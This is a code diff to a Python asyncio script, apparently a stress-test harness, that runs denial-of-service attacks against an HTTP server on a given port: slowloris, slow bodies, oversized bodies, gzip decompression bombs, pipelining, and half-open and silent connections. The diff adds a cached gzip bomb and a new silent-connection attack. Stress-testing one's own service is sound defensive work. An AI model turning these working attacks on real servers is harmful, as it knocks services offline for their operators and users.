@@ -1,7 +1,7 @@
-"""A process that abuses a venue's HTTP, one way at a time, until it is told to stop.
+"""A process that abuses a venue's HTTP until it is told to stop.
 
-Reads orders as lines of JSON from standard input: `{"attack": name, "port": n, "token": t}` begins
-one, an empty line ends it, and a line with what came of it goes to standard output.
+Reads orders as lines of JSON from standard input: `{"attacks": [name], "port": n, "token": t}`
+begins some, an empty line ends them, and a line with what came of each goes to standard output.
 """
 
 import asyncio
@@ -14,6 +14,7 @@ import sys
 import time
 from collections import Counter
 from collections.abc import Awaitable, Callable
+from functools import cache
 from typing import Any
 
 SLOW_CONNECTIONS = 1_000
@@ -57,6 +58,16 @@ class Attack:
         length = head.lower().find(b"content-length: ")
         if length >= 0:
             await reader.readexactly(int(head[length + 16 :].split(b"\r\n", 1)[0]))
+
+    def seen(self) -> dict[str, Any]:
+        """Return what came of it."""
+        return {
+            "opened": self.opened,
+            "ended": self.ended,
+            "longest_s": self.longest_s,
+            "most_bytes": self.most_bytes,
+            "statuses": self.statuses,
+        }
 
     async def trickle(self, first: bytes, drop: bytes) -> None:
         """Open connections and let their requests trickle in; each that ends is opened again."""
@@ -149,9 +160,15 @@ async def gigabytes(attack: Attack) -> None:
     )
 
 
+@cache
+def bomb() -> bytes:
+    """Return twenty kilobytes that become twenty megabytes."""
+    return gzip.compress(b" " * 20_000_000, 6)
+
+
 async def bombs(attack: Attack) -> None:
     """Small gzip bodies that become a thousand times larger."""
-    packed = gzip.compress(b" " * 60_000_000)
+    packed = bomb()
     request = attack.head(
         "POST /api/v1/order/", "Content-Encoding: gzip", f"Content-Length: {len(packed)}"
     )
@@ -198,15 +215,22 @@ async def _drop(attack: Attack, reader: asyncio.StreamReader) -> None:
         attack.statuses["answers"] += part.count(b"HTTP/1.1 ")
 
 
+async def strangers(attack: Attack) -> None:
+    """Connections that say nothing; each that ends is opened again."""
+    await asyncio.gather(*(attack.again(lambda: _sit(attack)) for _ in range(SLOW_CONNECTIONS)))
+
+
+async def _sit(attack: Attack) -> None:
+    reader, writer = await attack.connect()
+    try:
+        await reader.read()
+    finally:
+        attack.ended += 1
+        writer.transport.abort()
+
+
 async def half_open(attack: Attack) -> None:
     """Connections that say nothing, that close one way only, and that vanish."""
-
-    async def sit() -> None:
-        reader, writer = await attack.connect()
-        try:
-            await reader.read()
-        finally:
-            writer.transport.abort()
 
     async def half() -> None:
         reader, writer = await attack.connect()
@@ -223,7 +247,7 @@ async def half_open(attack: Attack) -> None:
         await asyncio.sleep(0.001)
         writer.transport.abort()
 
-    many = [attack.again(sit) for _ in range(HALF_OPEN)]
+    many = [attack.again(lambda: _sit(attack)) for _ in range(HALF_OPEN)]
     busy = [attack.again(act) for act in (half, vanish) for _ in range(BUSY_CONNECTIONS)]
     await asyncio.gather(*many, *busy)
 
@@ -252,28 +276,22 @@ ATTACKS = {
     attack.__name__.replace("_", " "): attack
     for attack in (
         slowloris, slow_bodies, many_headers, gigabytes, bombs, pipelines, half_open, deaf,
+        strangers,
     )
 }  # fmt: skip
 
 
-async def run(name: str, port: int, token: str) -> dict[str, Any]:
+async def run(names: list[str], port: int, token: str) -> dict[str, Any]:
     """Attack until a line comes in."""
-    attack = Attack(port, token)
-    attacking = asyncio.ensure_future(ATTACKS[name](attack))
+    attacks = {name: Attack(port, token) for name in names}
+    attacking = asyncio.gather(*(ATTACKS[name](attack) for name, attack in attacks.items()))
     stop = asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)
     await asyncio.wait([attacking, stop], return_when=asyncio.FIRST_COMPLETED)
-    failed = attacking.done()
-    attacking.cancel()
-    await asyncio.wait([attacking])
-    if failed:
-        attacking.result()
-    return {
-        "opened": attack.opened,
-        "ended": attack.ended,
-        "longest_s": attack.longest_s,
-        "most_bytes": attack.most_bytes,
-        "statuses": attack.statuses,
-    }
+    if not attacking.done():
+        attacking.cancel()
+    with contextlib.suppress(asyncio.CancelledError):
+        await attacking
+    return {name: attack.seen() for name, attack in attacks.items()}
 
 
 def main() -> None:
@@ -282,7 +300,7 @@ def main() -> None:
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     while line := sys.stdin.readline():
         asked = json.loads(line)
-        seen = asyncio.run(run(asked["attack"], asked["port"], asked["token"]))
+        seen = asyncio.run(run(asked["attacks"], asked["port"], asked["token"]))
         sys.stdout.write(json.dumps(seen) + "\n")
         sys.stdout.flush()
 
